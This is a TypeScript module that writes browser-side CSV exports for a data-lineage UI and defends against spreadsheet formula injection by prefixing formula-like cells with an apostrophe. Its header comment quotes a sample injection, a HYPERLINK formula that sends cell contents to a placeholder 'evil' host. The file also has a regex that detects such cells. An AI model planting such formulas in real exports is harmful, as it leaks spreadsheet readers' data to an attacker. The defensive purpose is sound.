/**
 * CSV for people's spreadsheets, written in the browser: the one place in the
 * UI that builds CSV, so that every export neutralises formulas (the server's
 * exports use lineage_backend/services/csv_export.py, with the same rules).
 *
 * Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`,
 * `-` or `@` (tab, CR, LF, or the full-width forms of the signs, also after
 * leading spaces) as a formula: a job named `=HYPERLINK("http://evil/?"&A1)`
 * would run on the reader's machine. Such text cells get a leading `'`, which
 * spreadsheets show as text; numbers stay numbers. No UI export writes CSV
 * today (the lineage exports are Mermaid, SVG and PNG); a new one must use
 * {@link toCsv} (tests/csv.test.ts checks that nothing else builds CSV).
 */

/** What a spreadsheet may read as the start of a formula. */
const FORMULA_START = /^[ \u00a0\u3000]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

export type CsvValue = string | number | boolean | null | undefined | Date;

/** One cell as text: empty for null, ISO 8601 for dates, formula-like text prefixed with `'`. */
export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return "";
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? "" : value.toISOString();
  if (typeof value === "number") return Number.isFinite(value) ? String(value) : "";
  if (typeof value === "boolean") return value ? "true" : "false";
  const text = String(value);
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** RFC 4180 quoting of an already neutralised cell. */
function quoted(cell: string): string {
  return /[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
}

/** A CSV document (CRLF line ends); every cell, the header included, goes through {@link csvCell}. */
export function toCsv(header: readonly string[], rows: ReadonlyArray<readonly CsvValue[]>): string {
  return [header, ...rows].map((row) => row.map((value) => quoted(csvCell(value))).join(",")).join("\r\n") + "\r\n";
}
